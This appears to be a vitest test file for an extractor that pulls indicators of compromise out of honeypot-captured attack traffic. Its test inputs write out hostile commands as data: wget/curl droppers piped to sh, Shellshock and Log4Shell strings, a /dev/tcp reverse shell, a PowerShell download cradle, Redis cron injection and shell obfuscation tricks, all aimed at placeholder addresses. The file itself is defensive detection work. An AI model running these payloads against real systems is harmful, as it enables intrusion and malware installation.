import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Iocs } from '../../events/event.js';
import {
  defang, extractIocs, MAX_DOMAINS, MAX_DOWNLOADS, MAX_FILES, MAX_HASHES, MAX_IPS, MAX_URLS,
} from './index.js';
import type { IocEvent } from './sources.js';

interface CorpusRecord {
  id: string;
  payload_b64: string;
  expect: { protocol: string; iocs: string[] };
}

const CORPUS = new URL('../../../test/fixtures/corpus/attacks.jsonl', import.meta.url);
const records: CorpusRecord[] = readFileSync(CORPUS, 'utf8').split('\n')
  .filter((line) => line.trim() !== '').map((line) => JSON.parse(line) as CorpusRecord);

function event(payload: string | Buffer, more: Partial<IocEvent> = {}): IocEvent {
  const bytes = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload;
  return {
    payload_b64: bytes.toString('base64'), commands: [], fields: {}, dst_ip: '127.0.0.1',
    protocol: 'unknown', credentials: [], ...more,
  };
}

function corpusEvent(record: CorpusRecord, withHost: boolean): IocEvent {
  const payload = Buffer.from(record.payload_b64, 'base64');
  const host = /^host:[ \t]*([^\r\n]*)/im.exec(payload.toString('latin1'))?.[1];
  const fields = withHost && host !== undefined ? { host } : {};
  return event(payload, { protocol: record.expect.protocol, fields });
}

const hosts = (iocs: Iocs): string[] => [...iocs.urls, ...iocs.ips, ...iocs.domains];

function expectCapped(iocs: Iocs): void {
  expect(iocs.urls.length).toBeLessThanOrEqual(MAX_URLS);
  expect(iocs.ips.length).toBeLessThanOrEqual(MAX_IPS);
  expect(iocs.domains.length).toBeLessThanOrEqual(MAX_DOMAINS);
  expect(iocs.downloads.length).toBeLessThanOrEqual(MAX_DOWNLOADS);
  expect(iocs.files.length).toBeLessThanOrEqual(MAX_FILES);
  expect(iocs.hashes.length).toBeLessThanOrEqual(MAX_HASHES);
  for (const url of iocs.urls) expect(() => new URL(url)).not.toThrow();
  for (const list of Object.values(iocs)) expect(new Set(list).size).toBe(list.length);
}

describe('the attack corpus', () => {
  const http = records.filter((r) => r.expect.protocol === 'http');
  const cases = [
    ...records.map((r) => [`${r.id}`, r, false] as const),
    ...http.map((r) => [`${r.id} with fields.host`, r, true] as const),
  ];

  it.each(cases)('%s yields every expected indicator', (_name, record, withHost) => {
    const iocs = extractIocs(corpusEvent(record, withHost));
    expect(hosts(iocs)).toEqual(expect.arrayContaining(record.expect.iocs));
    if (record.expect.iocs.length === 0) expect(iocs.urls).toEqual([]);
    expect(hosts(iocs)).not.toContain('203.0.113.10');
    expectCapped(iocs);
  });

  it('has droppers with their downloads and file names', () => {
    const byId = (id: string): Iocs =>
      extractIocs(corpusEvent(records.find((r) => r.id === id) as CorpusRecord, false));
    expect(byId('http-netgear-setupcgi-mozi')).toMatchObject({
      urls: ['http://192.168.1.1:8088/Mozi.m'],
      downloads: ['wget http://192.168.1.1:8088/Mozi.m -O /tmp/netgear'],
      files: ['Mozi.m', 'netgear'],
    });
    expect(byId('telnet-mirai-login-gafgyt-dropper')).toMatchObject({
      urls: ['http://198.51.100.170/ISIS.sh', 'tftp://198.51.100.170/tftp1.sh'],
      domains: [],
      files: ['ISIS.sh', 'tftp1.sh'],
    });
    expect(byId('http-jenkins-groovy-script-console').hashes)
      .toEqual(['fb101f4db773ad15e3de4016e4b6516a7232dc499d8869a279524bf34a28f156']);
    expect(byId('http-huawei-hg532-cve-2017-17215'))
      .toMatchObject({ urls: [], domains: [], hashes: [] });
    expect(byId('seed-52869-upnp-addportmapping-injection').domains).toEqual([]);
  });
});

describe('false-positive traps', () => {
  it('takes version numbers in user agents for versions', () => {
    const ua = 'GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0 '
      + 'Safari/537.36 Geth/v1.6.1-stable-021c3c28/linux-amd64/go1.8.1\r\n\r\n';
    expect(extractIocs(event(ua))).toMatchObject({ ips: [], domains: [], urls: [] });
  });

  it('takes file names with TLD-like extensions for files', () => {
    const iocs = extractIocs(event('cd /tmp; sh ISIS.sh; sh mirai.sh; python x.py; ./Mozi.m; '
      + 'GET /index.php; chmod +x China.Z-dukk'));
    expect(iocs.domains).toEqual([]);
  });

  it('never reports the sensor: dst_ip, Host header, fields.host, 0.0.0.0', () => {
    const payload = 'GET /?u=http://203.0.113.10:8080/x&v=0.0.0.0 HTTP/1.1\r\n'
      + 'Host: honeypot.example.com:8080\r\nReferer: http://honeypot.example.com/\r\n\r\n'
      + 'connect 192.0.2.55 203.0.113.10';
    const iocs = extractIocs(event(payload, { dst_ip: '::ffff:192.0.2.55',
      fields: { host: '203.0.113.10:8080' } }));
    expect(iocs).toMatchObject({ urls: [], ips: [], domains: [] });
  });

  it('reports a download from the sensor\'s own address, and nothing else of it', () => {
    const payload = 'POST /cgi-bin/x HTTP/1.1\r\nHost: 198.51.100.50\r\n'
      + 'Referer: http://198.51.100.50/r\r\n\r\n'
      + 'cmd=wget http://198.51.100.50/bot -O b; tftp -g -r t 198.51.100.50; ping 198.51.100.50';
    const iocs = extractIocs(event(payload, { dst_ip: '198.51.100.50',
      fields: { host: '198.51.100.50' } }));
    expect(iocs.urls).toEqual(['http://198.51.100.50/bot', 'tftp://198.51.100.50/t']);
    expect(iocs.ips).toEqual(['198.51.100.50']);
    expect(iocs.downloads).toEqual(['wget http://198.51.100.50/bot -O b',
      'tftp -g -r t 198.51.100.50']);
    expect(iocs.files).toEqual(['bot', 'b', 't']);
  });

  it('takes XML namespaces, schemas and DTDs for vocabularies', () => {
    const soap = '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" '
      + '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><s:Envelope '
      + 'xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
      + "s:encodingStyle='http://schemas.xmlsoap.org/soap/encoding/' xsi:schemaLocation="
      + '"http://example.com/ns http://example.com/ns.xsd"><a:Action>'
      + 'http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/ExecuteShellCommand'
      + '</a:Action><c>`wget http://198.51.100.44/e -O e`</c></s:Envelope>';
    expect(extractIocs(event(soap))).toMatchObject({ urls: ['http://198.51.100.44/e'],
      ips: ['198.51.100.44'], domains: [] });
  });

  it('takes a self-describing User-Agent for the scanner\'s identity', () => {
    const payload = 'GET / HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: Mozilla/5.0 '
      + '(compatible; ResearchScan/1.0; +https://scan.example.org/bot; abuse@example.net) '
      + 'Our website is research.example.com\r\nReferer: http://198.51.100.3/r\r\n\r\n';
    expect(extractIocs(event(payload))).toMatchObject({ urls: ['http://198.51.100.3/r'],
      ips: ['198.51.100.3'], domains: [] });
    const header = extractIocs(event('', { fields: { headers: [
      ['user-agent', 'CensysInspect/1.1; +https://about.example.org/'],
      ['referer', 'http://example.com/'],
    ] } }));
    expect(header).toMatchObject({ urls: ['http://example.com/'], domains: ['example.com'] });
  });

  it('reads a User-Agent carrying code: Shellshock, Log4Shell, commands', () => {
    const agents = ['() { :; }; /bin/ping -c1 c2.example.net',
      '${jndi:ldap://198.51.100.5:1389/a}', 'x; curl -s http://198.51.100.6/s'];
    const iocs = extractIocs(event(agents.map((a) => `GET / HTTP/1.1\r\nUser-Agent: ${a}\r\n\r\n`)
      .join('')));
    expect(iocs.domains).toEqual(['c2.example.net']);
    expect(iocs.ips).toEqual(['198.51.100.5', '198.51.100.6']);
    expect(iocs.urls).toEqual(['ldap://198.51.100.5:1389/a', 'http://198.51.100.6/s']);
  });

  it('lists a command once when a layer only drops its needless backslashes', () => {
    const iocs = extractIocs(event(String.raw`GET /shell?cd+/tmp;wget+http:/\/198.51.100.21/arm7;`
      + 'chmod+777+arm7 HTTP/1.1\r\n\r\n'));
    expect(iocs.downloads).toEqual(['wget http://198.51.100.21/arm7']);
    expect(iocs.urls).toEqual(['http://198.51.100.21/arm7']);
  });

  it('reads form-encoded words as words, not as base64 of a junk download', () => {
    const iocs = extractIocs(event('GET /x?c=busybox+nc+-e0s+8a+dvu+XtmY+-e+/bin/sh HTTP/1.1'));
    expect(iocs.downloads).toEqual(['busybox nc -e0s 8a dvu XtmY -e /bin/sh']);
  });

  it('takes the SLAVEOF address of a Redis command', () => {
    const iocs = extractIocs(event('', { commands: ['SLAVEOF 198.51.100.211 8886'] }));
    expect(iocs.ips).toEqual(['198.51.100.211']);
  });
});

describe('shell obfuscation from real droppers', () => {
  const b64 = (text: string): string => Buffer.from(text).toString('base64');

  it.each([
    ['${IFS}', 'cd${IFS}/tmp;wget${IFS}http://198.51.100.31/bins.sh;sh${IFS}bins.sh'],
    ['$IFS$9', 'cd$IFS$9/tmp;wget$IFS$9http://198.51.100.31/bins.sh'],
    ['base64 pipe', `echo ${b64('wget http://198.51.100.31/bins.sh')} | base64 -d | sh`],
    ['echo -e hex', String.raw`echo -e '\x77\x67\x65\x74 \x68\x74\x74\x70://198.51.100.31/bins.sh'|sh`],
    ['quote splitting', `w'g'e"t" "h"t't'p://198.51.100.31/bins.sh`],
    ['escaped letters', String.raw`\w\g\e\t http://198.51.100.31/bins.sh`],
    ['URL encoding', 'cmd=wget%20http%3A%2F%2F198.51.100.31%2Fbins.sh'],
    ['HTML entities', 'wget&#32;http&#58;&#47;&#47;198.51.100.31/bins.sh'],
    ['variables', 'u=http://198.51.100.31; f=bins.sh; wget $u/$f'],
  ])('%s', (_name, payload) => {
    const iocs = extractIocs(event(payload));
    expect(iocs.urls).toContain('http://198.51.100.31/bins.sh');
    expect(iocs.ips).toEqual(['198.51.100.31']);
    expect(iocs.downloads.some((d) => d.startsWith('wget http://198.51.100.31/bins.sh')))
      .toBe(true);
    expect(iocs.files).toContain('bins.sh');
  });
});

describe('Log4Shell', () => {
  const b64 = (text: string): string => Buffer.from(text).toString('base64');

  it('lists the lookup\'s URL and the download its base64 command makes', () => {
    const command = 'wget http://198.51.100.7/x.sh -O /tmp/x; sh /tmp/x';
    const payload = 'GET / HTTP/1.1\r\nHost: 203.0.113.10\r\nX-Api-Version: ${${lower:j}ndi:'
      + `ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(command)}}\r\n\r\n`;
    const iocs = extractIocs(event(payload));
    expect(iocs.urls).toEqual([
      `ldap://198.51.100.5:1389/Basic/Command/Base64/${b64(command)}`,
      'http://198.51.100.7/x.sh',
    ]);
    expect(iocs.ips).toEqual(['198.51.100.5', '198.51.100.7']);
    expect(iocs.downloads).toEqual(['wget http://198.51.100.7/x.sh -O /tmp/x']);
    expect(iocs.files).toEqual(['x.sh', 'x']);
  });

  it('reaches a download under four layers of base64', () => {
    let blob = 'curl -s http://198.51.100.9/four | sh';
    for (let i = 0; i < 4; i++) blob = b64(blob);
    const iocs = extractIocs(event(`POST / HTTP/1.1\r\n\r\nx=${blob}`));
    expect(iocs.urls).toEqual(['http://198.51.100.9/four']);
    expect(iocs.downloads).toEqual(['curl -s http://198.51.100.9/four']);
  });
});

describe('sources besides the payload', () => {
  it('reads commands and the request fields each protocol records', () => {
    const iocs = extractIocs(event('', {
      commands: ['curl -s http://198.51.100.1/a | sh'],
      fields: {
        path: '/x', query: 'cmd=wget+http://198.51.100.2/b',
        headers: [['referer', 'http://example.org/c'], ['host', 'sensor.example.net']],
        body: Buffer.from('wget http://198.51.100.3/d').toString('base64'), body_encoding: 'base64',
        requests: [{ path: '/?u=http://198.51.100.4/e' }],
        inner: { protocol: 'http', fields: { path: '/?u=http://198.51.100.5/f' } },
        keys_set: [{ key: 'x', value: '*/1 * * * * curl http://198.51.100.6/g' }],
        config_set: { dir: '/tmp/198.51.100.99' }, services: ['shell:wget http://198.51.100.7/h'],
        java_classes: ['http.example.com.Gadget'], hassh: 'd41d8cd98f00b204e9800998ecf8427e',
      },
    }));
    expect(new Set(iocs.urls)).toEqual(new Set(['http://198.51.100.1/a', 'http://198.51.100.2/b',
      'http://example.org/c', 'http://198.51.100.3/d', 'http://198.51.100.4/e',
      'http://198.51.100.5/f', 'http://198.51.100.6/g', 'http://198.51.100.7/h']));
    expect(iocs.urls[0]).toBe('http://198.51.100.1/a');
    expect(iocs.domains).toEqual(['example.org']);
    expect(iocs.hashes).toEqual([]);
  });

  it('keeps first-seen order and reports each value once', () => {
    const iocs = extractIocs(event('wget http://198.51.100.2/a; wget http://198.51.100.1/a; '
      + 'wget http://198.51.100.2/a', { commands: ['wget http://198.51.100.1/a'] }));
    expect(iocs.urls).toEqual(['http://198.51.100.2/a', 'http://198.51.100.1/a']);
    expect(iocs.ips).toEqual(['198.51.100.2', '198.51.100.1']);
    expect(iocs.downloads).toEqual(['wget http://198.51.100.2/a', 'wget http://198.51.100.1/a']);
  });

  it('lists a command in a request line\'s query once, decoded, without the version', () => {
    const iocs = extractIocs(event('GET /cgi-bin/x?cmd=cd+/tmp;wget+http://198.51.100.7/bot+-O+b'
      + ' HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n'));
    expect(iocs.downloads).toEqual(['wget http://198.51.100.7/bot -O b']);
    expect(iocs.urls).toEqual(['http://198.51.100.7/bot']);
  });

  it('caps every list', () => {
    const many = Array.from({ length: 300 }, (_, i) =>
      `wget http://h${i}.example.com/f${i} -O o${i}; ping 192.0.2.${i % 250 + 1}; `
      + `${i.toString(16).padStart(32, 'a')}`).join('\n');
    const iocs = extractIocs(event(many));
    expect(iocs.urls).toHaveLength(MAX_URLS);
    expect(iocs.ips).toHaveLength(MAX_IPS);
    expect(iocs.domains).toHaveLength(MAX_DOMAINS);
    expect(iocs.downloads).toHaveLength(MAX_DOWNLOADS);
    expect(iocs.files).toHaveLength(MAX_FILES);
    expect(iocs.hashes).toHaveLength(MAX_HASHES);
  });

  it('gives every indicator a defanged form without a followable link', () => {
    const record = records.find((r) => r.id === 'http-shellshock-chinaz-dropper') as CorpusRecord;
    const iocs = extractIocs(corpusEvent(record, true));
    for (const value of [...hosts(iocs), ...iocs.downloads]) {
      expect(defang(value)).not.toMatch(/https?:\/\/|example\.net|\d\.\d+\.\d+\.\d/);
    }
  });
});

describe('hostile input', () => {
  let nested = 'wget http://198.51.100.7/x';
  for (let i = 0; i < 10; i++) nested = Buffer.from(nested).toString('base64');
  const hostile: Record<string, Buffer> = {
    'random bytes': randomBytes(64 * 1024),
    'http:// repeated': Buffer.from('http://'.repeat(Math.ceil(65536 / 7))),
    'nested base64 ten levels deep': Buffer.from(nested.padEnd(64 * 1024, ' ')),
    '%25 repeated': Buffer.from('%25'.repeat(Math.ceil(65536 / 3))),
    'URLs and commands everywhere': Buffer.from(
      'wget http://198.51.100.1/a.sh;tftp -g -r b 198.51.100.2|'.repeat(1200)),
  };

  it.each(Object.entries(hostile))('%s (64 KiB) within caps and a generous bound', (_n, bytes) => {
    const started = performance.now();
    const iocs = extractIocs(event(bytes, { commands: [bytes.toString('latin1').slice(0, 2048)] }));
    // A safety bound far above the tens of ms expected, so a slow machine does not fail it.
    expect(performance.now() - started).toBeLessThan(5000);
    expectCapped(iocs);
  });
});

describe('a hostile session', () => {
  it('of 256 distinct 2 KiB commands stays within caps and a generous bound', () => {
    const words = ['wget ', 'curl ', 'tftp -g -r ', 'http://', '198.51.100.', 'a.example.com ',
      '${IFS}', '%25', 'echo ', '| base64 -d', "'", '"', ';', '$(', 'x=', '$x'];
    const commands = Array.from({ length: 256 }, (_, i) => {
      let line = `${i} `;
      for (let j = 0; line.length < 2048; j++) line += words[(i * 7 + j * 13) % words.length];
      return line;
    });
    const started = performance.now();
    const iocs = extractIocs(event('', { commands }));
    // A safety bound far above the tens of ms expected, so a slow machine does not fail it.
    expect(performance.now() - started).toBeLessThan(5000);
    expectCapped(iocs);
  });
});

describe('malformed events', () => {
  it('reads what it can of an event missing lists or holding odd values', () => {
    const odd = {
      payload_b64: 'd2dldCBodHRwOi8vMTk4LjUxLjEwMC4xL2E=', commands: undefined, fields: null,
      dst_ip: undefined, protocol: 'x', credentials: [],
    } as unknown as IocEvent;
    expect(extractIocs(odd).urls).toEqual(['http://198.51.100.1/a']);
    const worse = { ...odd, payload_b64: 42, commands: [7, null, 'wget http://198.51.100.2/b'],
      fields: { headers: [null, ['referer'], 'x'], requests: 'no', inner: [] },
    } as unknown as IocEvent;
    expect(extractIocs(worse).urls).toEqual(['http://198.51.100.2/b']);
  });
});

describe('properties', () => {
  const piece = fc.constantFrom('http://', 'https://', 'tftp://', 'ftp://', '198.51.100.', '1',
    '255', '.', ':', '/', '[2001:db8::1]', 'example.com', '%20', '+', '-O ', 'wget ', 'curl ',
    'tftp -g -r ', ';', '|', '&&', "'", '"', '$', '${IFS}', '\\x41', 'd2dldA==', ')', ' ', '\n',
    'a.sh', 'xn--', '@', '#', '?', '=', '&');
  const text = fc.oneof(fc.string({ maxLength: 400 }),
    fc.array(piece, { maxLength: 80 }).map((p) => p.join('')));
  const fieldValue = fc.oneof(text, fc.array(text, { maxLength: 3 }), fc.integer(),
    fc.constant(null));

  it('never throws; lists are capped, distinct, and every URL parses', () => {
    fc.assert(fc.property(text, fc.array(text, { maxLength: 3 }),
      fc.dictionary(fc.constantFrom('path', 'query', 'body', 'headers', 'requests', 'inner',
        'services', 'keys_set', 'config_set', 'host', 'replicaof'), fieldValue),
      (payload, commands, fields) => {
        const iocs = extractIocs(event(payload, { commands, fields }));
        expectCapped(iocs);
        for (const value of [...hosts(iocs), ...iocs.downloads]) defang(value);
      }), { numRuns: 400 });
  });
});

describe('download commands as an analyst reads them', () => {
  it('keeps one entry for a cron line in a Redis value, starting at the command', () => {
    const iocs = extractIocs(event('set bak1 "\\n\\n*/2 * * * * root curl -fsSL '
      + 'http://198.51.100.40/cr.sh | sh\\n\\n"\r\n', { protocol: 'redis' }));
    expect(iocs.downloads).toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
  });

  it('drops the shell that runs a command and the quote that closes it', () => {
    const iocs = extractIocs(event('GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c '
      + '"powershell -c IEX((New-Object Net.WebClient).DownloadString(\'http://198.51.100.14/'
      + 'p.ps1\')); bash -i >& /dev/tcp/198.51.100.17/4444 0>&1"\r\n\r\n', { protocol: 'http' }));
    expect(iocs.downloads).toEqual([
      'powershell -c IEX((New-Object Net.WebClient).DownloadString('
        + '\'http://198.51.100.14/p.ps1\'))',
      'bash -i >& /dev/tcp/198.51.100.17/4444 0>&1',
    ]);
  });

  it('reads a scheme-less wget target as an http URL and lists its file', () => {
    const iocs = extractIocs(event('GET /shell?cd+/tmp;wget+198.51.100.13/jaws;sh+/tmp/jaws '
      + 'HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n', { protocol: 'http' }));
    expect(iocs.downloads).toEqual(['wget 198.51.100.13/jaws']);
    expect(iocs.urls).toEqual(['http://198.51.100.13/jaws']);
    expect(iocs.files).toEqual(['jaws']);
  });
});
